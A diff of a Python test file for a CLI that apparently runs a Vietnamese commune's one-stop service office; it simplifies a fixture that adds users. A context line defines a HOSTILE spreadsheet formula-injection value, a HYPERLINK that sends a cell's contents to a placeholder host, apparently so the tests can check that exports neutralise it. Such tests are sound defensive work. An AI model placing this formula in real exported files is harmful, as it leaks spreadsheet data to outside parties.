@@ -21,16 +21,10 @@ HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")'
 
 
 @pytest.fixture
-def ready(run):  # type: ignore[no-untyped-def]
-    code, out, err = run("setup", "--agency-code", "000.17.22.H56", "--agency-name", "Bộ phận Một cửa xã Quảng Phú",
-                         "--managing-agency", "UBND xã Quảng Phú", "--province", "Thanh Hóa", "--counter", "1",
-                         "--admin", "admin")
+def ready(cli_ready):  # type: ignore[no-untyped-def]
+    code, out, err = cli_ready("users", "add", "binh", "--role", "supervisor", "--full-name", "Lê Văn Bình")
     assert code == 0, err
-    code, out, err = run("users", "add", "hoa", "--role", "official", "--full-name", "Nguyễn Thị Hoa")
-    assert code == 0, err
-    code, out, err = run("users", "add", "binh", "--role", "supervisor", "--full-name", "Lê Văn Bình")
-    assert code == 0, err
-    return run
+    return cli_ready
 
 
 def _catalog_file(tmp_path: Path, *rows: str, name: str = "catalog.csv") -> Path:
